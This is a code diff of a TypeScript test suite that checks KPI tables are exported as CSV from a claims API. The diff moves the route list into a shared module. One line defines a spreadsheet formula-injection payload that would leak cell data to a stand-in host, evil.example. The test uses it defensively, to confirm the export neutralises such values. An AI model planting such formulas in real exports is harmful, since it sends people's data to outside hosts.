@@ -7,32 +7,13 @@ import { Client } from 'pg';
 import { startApiUnderTest } from '../__tests__/api-under-test';
 import { parseCsv } from '../__tests__/csv-document';
 import { rebuildCountersFromClaims, seedFoldedKpis } from '../__tests__/kpi-fixture';
+import { KPI_TABLE_ROUTES } from '../__tests__/kpi-table-routes';
 
 const tokens = Object.fromEntries(
   API_ROLES.map((role) => [role, `${role}-${randomBytes(18).toString('hex')}`]),
 ) as Record<ApiRole, string>;
 /** A payer name a billing export could carry: a spreadsheet must show it, never run it. */
 const HOSTILE_PAYER = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
-
-/** Every KPI table route, and the field of its JSON answer that holds the table. */
-const TABLE_ROUTES: ReadonlyArray<readonly [string, string]> = [
-  ['/v1/kpis/pended-queue', 'byDimension'],
-  ['/v1/kpis/pended-queue/flow', 'days'],
-  ['/v1/kpis/pended-queue/work-queue', 'items'],
-  ['/v1/kpis/denials?source=billing_export', 'rows'],
-  ['/v1/kpis/denials/root-causes', 'rows'],
-  ['/v1/kpis/adjustments', 'rows'],
-  ['/v1/kpis/payments?groupBy=payer', 'rows'],
-  ['/v1/kpis/volume', 'rows'],
-  ['/v1/kpis/top?kind=hcpcs', 'rows'],
-  ['/v1/kpis/claim-lifecycle', 'payerLag'],
-  ['/v1/kpis/pmpm', 'rows'],
-  ['/v1/kpis/chronic-conditions', 'conditions'],
-  ['/v1/kpis/outlier-providers', 'rows'],
-  ['/v1/kpis/provider-adjustments', 'rows'],
-  ['/v1/kpis/denials/claims?source=billing_export', 'items'],
-  ['/v1/kpis/payments/claims', 'items'],
-];
 
 /**
  * Every KPI table as CSV (`Accept: text/csv`) over the KPI fixture, with a
@@ -95,7 +76,7 @@ describe('KPI tables as CSV against a real Postgres', () => {
     await database?.drop();
   });
 
-  it.each(TABLE_ROUTES)(
+  it.each(KPI_TABLE_ROUTES)(
     'answers %s as CSV with the rows of its JSON table, every cell a value, as an attachment',
     async (path, field) => {
       const json = await get(path, 'manager');
